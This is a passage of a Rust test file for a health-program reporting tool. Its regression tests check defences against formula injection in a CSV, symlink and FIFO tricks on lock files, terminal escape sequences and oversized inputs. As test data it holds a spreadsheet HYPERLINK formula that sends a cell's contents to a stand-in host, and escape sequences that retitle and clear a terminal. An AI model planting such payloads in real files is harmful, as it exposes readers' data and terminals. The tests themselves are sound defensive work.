        std::fs::read_dir(&elsewhere).unwrap().count(),
        0,
        "written into the link's target"
    );
}

/// `templates dump` killed while writing a file (here by the kernel: the file-size limit
/// `ulimit -f` sends SIGXFSZ, as a full disk stops a write) left that template cut short under
/// its own name; the next dump skipped it as existing and a program used it. Each file is now
/// written whole or not at all: every template in the folder is byte for byte the built-in,
/// and a second dump completes the set.
#[cfg(unix)]
#[test]
fn templates_dump_killed_mid_file_leaves_no_partial_template() {
    use cohortpress::report::templates::BUILTIN;
    let t = ProgramTest::fixture("report-small");
    let dump = t.dir.parent().unwrap().join("dump");
    // 2 blocks: 1 KiB or 2 KiB as the shell counts them; the first template is larger.
    assert!(BUILTIN[0].1.len() > 2048);
    let o = Command::new("sh")
        .arg("-c")
        .arg("ulimit -f 2 && exec \"$0\" templates dump \"$1\"")
        .arg(BIN)
        .arg(&dump)
        .output()
        .unwrap();
    assert!(!o.status.success(), "the limit stopped the dump: {o:?}");
    let whole_or_absent = |dump: &Path| {
        for (name, text) in BUILTIN {
            if let Ok(found) = std::fs::read(dump.join(name)) {
                assert_eq!(
                    String::from_utf8_lossy(&found),
                    *text,
                    "{name}: {} of {} bytes",
                    found.len(),
                    text.len()
                );
            }
        }
    };
    whole_or_absent(&dump);
    assert!(
        !dump.join(BUILTIN[0].0).exists(),
        "the first file was not finished"
    );
    let o = run_bin(
        &t,
        &["templates", "dump", &dump.to_string_lossy()],
        &[],
        None,
    );
    assert_eq!(o.code, 0, "{o:?}");
    whole_or_absent(&dump);
    for (name, _) in BUILTIN {
        assert!(dump.join(name).is_file(), "{name}");
    }
}

/// The clinician follow-up list's CSV carries each participant's name from `profile.yaml`: a
/// name that begins like a spreadsheet formula was written raw (`=HYPERLINK(…)` ran when the
/// nurse opened `followup.csv`), the one CSV that did not go through the guarded writer.
#[test]
fn a_name_written_as_a_formula_reaches_the_followup_csv_as_text() {
    let t = ProgramTest::sample();
    let yaml = t.dir.join("program.yaml");
    let text = std::fs::read_to_string(&yaml).unwrap();
    std::fs::write(
        &yaml,
        format!("{text}\nfollowup:\n  recipient: \"Nurse\"\n"),
    )
    .unwrap();
    // SG-010 is flagged (low intake) in the sample's June (no longer in September, where his
    // weight trend shows his low log to be under-reporting).
    set_profile_line(
        &t,
        "SG-010",
        "name",
        r#"name: "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")""#,
    );
    let o = out(&t);
    let r = t.run(&[
        "run",
        "{dir}",
        "--as-of",
        "2026-07-01",
        "--formats",
        "html",
        "--out",
        &o,
    ]);
    assert_eq!(r.code, 4, "{}", r.stderr);
    let mut rd = csv::Reader::from_path(Path::new(&o).join("followup/followup.csv")).unwrap();
    let names: Vec<String> = rd
        .records()
        .map(|r| r.unwrap())
        .filter(|r| &r[0] == "SG-010")
        .map(|r| r[1].to_string())
        .collect();
    assert!(!names.is_empty(), "SG-010 is on the list");
    for n in names {
        assert_eq!(n, r#"'=HYPERLINK("http://x.example/?"&A1,"open")"#);
    }
}

/// The run's two lock files (`.NAME.lock` beside the output folder, `ledger.lock` in the
/// ledger's folder) were opened with create-and-write, following a link planted under their
/// name: a dangling link made the run create a file wherever it pointed, outside the output
/// folder (in a shared folder, anyone can plant one for a cron job to follow). Neither is
/// followed now; the run stops before writing anything, and says which link to remove.
#[cfg(unix)]
#[test]
fn lock_files_are_never_opened_through_a_link() {
    let t = ProgramTest::demo(2);
    let base = t.dir.parent().unwrap();
    let elsewhere = base.join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let o = out(&t);
    let run = || {
        t.run(&[
            "run",
            "{dir}",
            "--as-of",
            AS_OF,
            "--formats",
            "html",
            "--out",
            &o,
        ])
    };

    std::os::unix::fs::symlink(elsewhere.join("made-by-lock"), base.join(".out.lock")).unwrap();
    let r = run();
    assert_eq!(
        r.code,
        cohortpress::exit_code::OUTPUT_FAILED,
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains(".out.lock"), "{}", r.stderr);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    assert!(!elsewhere.join("made-by-lock").exists());
    assert!(!Path::new(&o).exists(), "nothing was published");

    std::fs::remove_file(base.join(".out.lock")).unwrap();
    // The ledger is the program's own (none exists yet), whatever `--out` says.
    let ledger = t.dir.join("reports.ledger");
    std::fs::create_dir(&ledger).unwrap();
    std::os::unix::fs::symlink(elsewhere.join("made-by-ledger"), ledger.join("ledger.lock"))
        .unwrap();
    let r = run();
    assert_eq!(
        r.code,
        cohortpress::exit_code::OUTPUT_FAILED,
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("ledger.lock"), "{}", r.stderr);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    assert!(!elsewhere.join("made-by-ledger").exists());
    assert!(!Path::new(&o).exists(), "nothing was published");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);

    // A FIFO under the lock's name made the run wait for ever for a reader (a cron job that
    // never ends); it is refused like any file that is not a regular one.
    std::fs::remove_file(ledger.join("ledger.lock")).unwrap();
    std::fs::remove_file(base.join(".out.lock")).unwrap();
    let fifo = Command::new("mkfifo")
        .arg(base.join(".out.lock"))
        .status()
        .unwrap();
    assert!(fifo.success());
    let r = run();
    assert_eq!(
        r.code,
        cohortpress::exit_code::OUTPUT_FAILED,
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("not a regular file"), "{}", r.stderr);
    std::fs::remove_file(base.join(".out.lock")).unwrap();

    // With the link gone the run goes ahead.
    assert_eq!(run().code, cohortpress::exit_code::SUCCESS);
}

/// Escape sequences in the program's title, in a YAML key and in a CSV column's name reached
/// the terminal raw through `check`'s own lines (the details were escaped, these were not):
/// the `program … (TITLE): ok` line, the summary by kind (a message quoting the key) and "how
/// files were read" (a column it does not read), also with `--verbose`: a title of
/// `\e]0;…\a\e[2J` set the terminal's title and cleared the screen.
#[test]
fn check_s_own_lines_never_print_control_characters_from_inputs() {
    let t = ProgramTest::demo(3);
    let yaml = std::fs::read_to_string(t.dir.join("program.yaml")).unwrap();
    let yaml = yaml.replace(
        "title: Steady Ground 2026",
        "title: \"Steady\\e]0;owned\\a\\e[2J Ground\"",
    );
    std::fs::write(t.dir.join("program.yaml"), yaml).unwrap();
    let p = |rel: &str| t.dir.join("participants").join(rel);
    let mut profile = std::fs::read_to_string(p("SG-001/profile.yaml")).unwrap();
    profile.push_str("\"x\\e[2Jy\": 1\n");
    std::fs::write(p("SG-001/profile.yaml"), profile).unwrap();
    std::fs::write(
        p("SG-002/weights.csv"),
        "date,weight,unit,Comm\u{1b}[5ment\n2026-04-01,70,kg,x\n",
    )
    .unwrap();
    for extra in [&[][..], &["--verbose"][..]] {
        let mut args = vec!["check", "{dir}", "--as-of", AS_OF];
        args.extend_from_slice(extra);
        let r = run_bin(&t, &args, &[], None);
        assert_eq!(r.code, 4, "{}", r.stderr);
        assert!(
            !r.stdout.chars().any(|c| c.is_control() && c != '\n'),
            "{extra:?}: {:?}",
            r.stdout
        );
        assert!(
            r.stdout
                .contains("(Steady\\u{1b}]0;owned\\u{7}\\u{1b}[2J Ground): ok"),
            "{}",
            r.stdout
        );
        assert!(
            r.stdout.contains("unknown key `x\\u{1b}[2Jy`"),
            "{}",
            r.stdout
        );
        assert!(
            r.stdout.contains("column `Comm\\u{1b}[5ment` is not read"),
            "{}",
            r.stdout
        );
    }
}

/// A `labs.csv` far longer than any one person's results (a whole clinic's export put in one
/// folder) is listed in the report as its latest 250 values, with a sentence saying how many
/// earlier ones are left out: every value was a row of the page and the PDF, and 50,000 rows
/// made a 31 MB PDF and took 710 MB of memory and 7 s for that one participant.
#[test]
fn a_report_lists_the_latest_lab_values_not_a_whole_clinics_export() {
    let t = ProgramTest::demo(1);
    let start = chrono::NaiveDate::from_ymd_opt(2026, 4, 1).unwrap();
    let date = |i: u64| start + chrono::Days::new(i * 180 / 600);
    let mut labs = String::from("date,test,value,unit\n");
    for i in 0..600 {
        labs.push_str(&format!(
            "{},fasting_glucose,{},mg/dL\n",
            date(i),
            80 + i % 30
        ));
    }
    std::fs::write(t.dir.join("participants/SG-001/labs.csv"), labs).unwrap();
    let o = out(&t);
    let r = t.run(&[
        "run",
        "{dir}",
        "--as-of",
        AS_OF,
        "--period",
        "2026-09",
        "--formats",
        "html",
        "--out",
        &o,
    ]);
    assert!(r.code <= 1, "{r:?}");
    let html = std::fs::read_to_string(Path::new(&o).join("participants/SG-001.html")).unwrap();
    let section = html
        .split("<h2 id=\"h-labs\">")
        .nth(1)
        .and_then(|s| s.split("</section>").next())
        .expect("a lab section");
    let rows: Vec<&str> = section
        .split("<tbody>")
        .nth(1)
        .unwrap()
        .split("<tr>")
        .skip(1)
        .collect();
    assert_eq!(rows.len(), 250);
    // The latest 250 (rows 350 to 599 of the file), in the file's order.
    let shown = |d: chrono::NaiveDate| d.format("%-d %b %Y").to_string();
    assert!(rows[0].contains(&shown(date(350))), "{}", rows[0]);
    assert!(rows[249].contains(&shown(date(599))), "{}", rows[249]);
    assert!(!section.contains(&shown(date(0))));
    assert!(
        section.contains(
            "The table lists your latest 250 results; 350 earlier ones are not shown here \
             (your program team has them)."
        ),
        "{section}"
    );
}

/// A weigh-in file of 49,000 rows on one day (a scale's raw log of readings) is checked within
/// a CPU ceiling of 15 s: each weigh-in's unit check gathered and sorted its neighbours within
/// 14 days, and every row had the other 48,999 as neighbours (76 s of CPU in a debug build, 16 s
/// in a release build, for that one participant); now about 1 s in a debug build.
#[test]
fn a_scales_raw_log_of_one_day_is_checked_within_a_cpu_ceiling() {
    let t = ProgramTest::demo(1);
    let mut w = String::from("date,time,weight,unit\n");
    for i in 0..49_000u32 {
        w.push_str(&format!(
            "2026-09-10,{:02}:{:02},{}.{i:05},kg\n",
            i % 24,
            (i / 24) % 60,
            70 + i % 5
        ));
    }
    std::fs::write(t.dir.join("participants/SG-001/weights.csv"), w).unwrap();
    let o = Command::new("sh")
        .arg("-c")
        .arg("ulimit -t 15 && exec \"$0\" \"$@\"")
        .arg(BIN)
        .args(["check", &t.dir.to_string_lossy(), "--as-of", AS_OF])
        .output()
        .unwrap();
    // Killed at the ceiling, the shell reports no exit code (SIGXCPU).
    assert!(matches!(o.status.code(), Some(0 | 1)), "{o:?}");
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("1 usable, 0 not usable; 0 errors, 0 warnings"),
        "{out}"
    );
}
